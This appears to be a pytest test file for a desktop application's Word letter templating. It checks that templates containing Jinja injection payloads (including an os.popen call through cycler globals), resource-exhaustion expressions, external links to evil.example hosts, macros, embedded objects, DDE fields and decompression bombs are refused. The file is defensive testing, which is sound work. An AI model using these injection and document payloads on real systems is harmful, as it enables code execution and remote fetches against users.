"""A letter's template can only place values: whatever else somebody writes into it is refused with its place."""

from __future__ import annotations

import zipfile
from io import BytesIO
from typing import TYPE_CHECKING

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from PIL import Image

from desktop_app.errors import CancelledError, UserError
from desktop_app.paths import resource
from desktop_app.progress import Cancellable, silent
from desktop_app.report.letters.docx_letter import docx_bytes, write_docx
from desktop_app.report.letters.text import letter_text
from desktop_app.report.paper.docx.template import TEMPLATE
from tests.report.letters.letter_cases import letter_case

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

    from desktop_app.report.letters.text import LetterDraft

DOCUMENT, SETTINGS, RELATIONS = "word/document.xml", "word/settings.xml", "word/_rels/document.xml.rels"
WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))


@pytest.fixture
def letter() -> LetterDraft:
    """Return a letter to fill in."""
    return letter_text(letter_case("CN-2019", "receipt"), "receipt")


def changed(path: Path, *changes: tuple[str, str, str], parts: Mapping[str, str] | None = None) -> Path:
    """Return the program's template with texts of its parts replaced and parts added."""
    with zipfile.ZipFile(resource(*TEMPLATE)) as whole, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in whole.namelist():
            data = whole.read(name)
            for part, old, new in changes:
                if part == name:
                    assert old.encode() in data
                    data = data.replace(old.encode(), new.encode(), 1)
            copy.writestr(name, data)
        for name, text in (parts or {}).items():
            copy.writestr(name, text)
    return path


def marked(path: Path, mark: str) -> Path:
    """Return the template with another mark in the place of the issuer."""
    return changed(path, (DOCUMENT, "{{ issuer }}", mark))


def refusal(letter: LetterDraft, path: Path) -> str:
    """Return the sentence with which a template is refused."""
    with pytest.raises(UserError) as refused:
        docx_bytes(letter, path)
    assert path.name in refused.value.message
    return refused.value.message


@pytest.mark.parametrize(
    "mark",
    [
        "{{ cycler.__init__.__globals__.os.popen('touch PROOF').read() }}",
        "{{ title.__class__.__mro__[1].__subclasses__() }}",
        "{{ ''.__class__ }}",
        "{{ title.format(title) }}",
        "{{ lipsum(9) }}",
        "{{ self }}",
        "{{ namespace }}",
        "{{ range(10000000000) }}",
        "{% for n in range(10) %}x{% endfor %}",
        "{% for n in 'ab' %}x{% endfor %}",
        "{% for a in blocks recursive %}{{ loop(blocks) }}{% endfor %}",
        "{% for __class__ in blocks %}{{ title.__class__ }}{% endfor %}",
        "{{ 1/0 }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9**9**9**9 }}",
        "{{ title|upper }}",
        "{{ title|attr('__class__') }}",
        "{{ title is defined }}",
        "{{ title['__class__'] }}",
        "{{ title ~ title }}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% extends 'x' %}",
        "{% block x %}{% endblock %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% set x = title %}",
        "{% with x = title %}{% endwith %}",
        "{% filter upper %}x{% endfilter %}",
        "{% autoescape false %}{{ title }}{% endautoescape %}",
        "{{ titel }}",
        "{{ title.rows }}",
        "{{ blocks }}",
        "{% if titel %}x{% endif %}",
        "{{ title ",
        "{% if title %}",
        "{% endif %}",
        "{% colour %}",
    ],
)
def test_a_mark_that_does_more_than_place_a_value_is_refused_with_its_place(
    tmp_path: Path, letter: LetterDraft, mark: str
) -> None:
    proof = tmp_path / "proof"
    message = refusal(letter, marked(tmp_path / "letter.docx", mark.replace("PROOF", str(proof))))
    assert "第 " in message
    assert "段“" in message
    assert not proof.exists()


@pytest.mark.parametrize(
    "mark",
    ["{{ " + "(" * 5000, "{{ 1" + "0" * 5000 + " }}", "{% for a in blocks %}" * 25 + "{% endfor %}" * 25],
    ids=["brackets", "digits", "loops"],
)
def test_a_mark_that_python_itself_cannot_take_is_refused_in_a_sentence(
    tmp_path: Path, letter: LetterDraft, mark: str
) -> None:
    assert "不能用" in refusal(letter, marked(tmp_path / "letter.docx", mark))


def test_a_refusal_says_which_paragraph_and_how_it_reads(tmp_path: Path, letter: LetterDraft) -> None:
    message = refusal(letter, changed(tmp_path / "letter.docx", (DOCUMENT, "{{ title }}", "标题：{{ titel }}")))
    assert "第 2 段“标题：{{ titel }}{% if number %}”：没有“titel”这个填空" in message


def test_marks_in_head_and_foot_are_checked_alike(tmp_path: Path, letter: LetterDraft) -> None:
    document = docx.Document(str(resource(*TEMPLATE)))
    document.sections[0].header.paragraphs[0].text = "{{ issuer.__class__ }}"
    document.save(str(tmp_path / "letter.docx"))
    assert "第 1 段“{{ issuer.__class__ }}”" in refusal(letter, tmp_path / "letter.docx")
    document.sections[0].header.paragraphs[0].text = "{{ issuer }}"
    document.core_properties.title = "{{ cycler }}"
    document.save(str(tmp_path / "letter.docx"))
    assert "没有“cycler”这个填空" in refusal(letter, tmp_path / "letter.docx")


def test_marks_whose_parts_cross_the_parts_of_the_document_are_refused(tmp_path: Path, letter: LetterDraft) -> None:
    crossing = "{% if not title %}</w:t></w:r>{% endif %}<w:r><w:t>"
    assert "不能用" in refusal(letter, marked(tmp_path / "letter.docx", crossing))


def test_an_office_may_repeat_leave_out_and_place_what_there_is(tmp_path: Path, letter: LetterDraft) -> None:
    mark = (
        "{% for b in blocks %}{% if b.text and not loop.first %}{{ loop.index }} {{ b.text }}；{% endif %}{% endfor %}"
    )
    document = docx.Document(BytesIO(docx_bytes(letter, marked(tmp_path / "letter.docx", mark))))
    assert document.paragraphs[0].text.count("；") >= 1


def test_a_template_with_a_head_a_picture_and_the_number_of_the_page_is_taken(
    tmp_path: Path, letter: LetterDraft
) -> None:
    drawn = BytesIO()
    Image.new("RGB", (20, 10)).save(drawn, "PNG")
    document = docx.Document(str(resource(*TEMPLATE)))
    head = document.sections[0].header.paragraphs[0]
    head.add_run("{{ issuer }}").add_picture(drawn)
    head._p.append(parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'))
    document.save(str(tmp_path / "a.docx"))
    made = docx.Document(BytesIO(docx_bytes(letter, tmp_path / "a.docx")))
    assert made.sections[0].header.paragraphs[0].text.startswith(letter.issuer)


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("image", "file://evil/share/a.png"),
        ("image", "https://evil.example/a.png"),
        ("oleObject", "file:///c:/a.xls"),
        ("hyperlink", "file://evil/share/a.exe"),
        ("frame", "http://evil.example/"),
    ],
)
def test_a_template_that_points_outside_is_refused(tmp_path: Path, letter: LetterDraft, kind: str, target: str) -> None:
    relation = f'<Relationship Id="rId99" Type="{WORD}/{kind}" Target="{target}" TargetMode="External"/>'
    path = changed(tmp_path / "letter.docx", (RELATIONS, "</Relationships>", f"{relation}</Relationships>"))
    assert target in refusal(letter, path)


@pytest.mark.parametrize(
    ("name", "kind", "content"),
    [
        (
            "vbaProject.bin",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vnd.ms-office.vbaProject",
        ),
        ("embeddings/a.bin", f"{WORD}/oleObject", "vnd.openxmlformats-officedocument.oleObject"),
        ("embeddings/a.xlsx", f"{WORD}/package", "vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("a.html", f"{WORD}/aFChunk", "xhtml+xml"),
    ],
)
def test_a_template_with_macros_or_objects_is_refused(
    tmp_path: Path, letter: LetterDraft, name: str, kind: str, content: str
) -> None:
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{name}"/>'
    override = f'<Override PartName="/word/{name}" ContentType="application/{content}"/>'
    path = changed(
        tmp_path / "letter.docx",
        (RELATIONS, "</Relationships>", f"{relation}</Relationships>"),
        ("[Content_Types].xml", "</Types>", f"{override}</Types>"),
        parts={f"word/{name}": "x"},
    )
    assert name in refusal(letter, path)


@pytest.mark.parametrize(
    "field",
    [
        '<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a.png "/>',
        f"{BEGIN}<w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>DEAUTO c:\\\\a.exe</w:instrText></w:r>{END}",
        f"{BEGIN}{BEGIN}<w:r><w:instrText> QUOTE 68 68 69</w:instrText></w:r>{END}{END}",
        '<w:r><w:pict><v:shape><v:imagedata src="\\\\evil\\share\\a.png"/></v:shape></w:pict></w:r>',
    ],
    ids=["picture", "dde in two runs", "a field in a field", "a drawing of old"],
)
def test_a_template_whose_fields_fetch_or_run_is_refused(tmp_path: Path, letter: LetterDraft, field: str) -> None:
    message = refusal(letter, marked(tmp_path / "letter.docx", f"</w:t></w:r>{field}<w:r><w:t>"))
    assert "域" in message or "外面的文件" in message


def test_a_template_that_unpacks_to_far_more_than_it_is_is_refused(tmp_path: Path, letter: LetterDraft) -> None:
    blanks = changed(tmp_path / "a.docx", (DOCUMENT, "{{ issuer }}", "{{ issuer }}" + " " * (5 << 20)))
    assert "太大" in refusal(letter, blanks)
    other = changed(tmp_path / "b.docx", (SETTINGS, "</w:settings>", " " * (90 << 20) + "</w:settings>"))
    assert "太大" in refusal(letter, other)


@pytest.mark.parametrize(
    "mark",
    [
        "{% for a in issuer %}" * 19 + "{% endfor %}" * 19,
        "</w:t>" + "<w:t></w:t>" * 100_000 + "<w:t>{{ issuer ",
    ],
    ids=["loops in loops", "a text that the library searches for ever"],
)
def test_a_template_that_takes_for_ever_is_a_sentence(
    tmp_path: Path, letter: LetterDraft, monkeypatch: pytest.MonkeyPatch, mark: str
) -> None:
    monkeypatch.setattr("desktop_app.report.letters.docx_letter._SECONDS", 3)
    template, target = marked(tmp_path / "letter.docx", mark), tmp_path / "a.docx"
    with pytest.raises(UserError, match="不能用"):
        write_docx(letter, target, silent, template)
    assert not target.exists()
    monkeypatch.undo()
    write_docx(letter, target, silent)
    assert target.exists()


def test_filling_in_can_be_cancelled(tmp_path: Path, letter: LetterDraft) -> None:
    stopped = Cancellable(silent)
    stopped.cancel()
    template = marked(tmp_path / "letter.docx", "{% for a in issuer %}" * 19 + "{% endfor %}" * 19)
    with pytest.raises(CancelledError):
        write_docx(letter, tmp_path / "a.docx", stopped, template)
    assert [path.name for path in tmp_path.iterdir()] == ["letter.docx"]
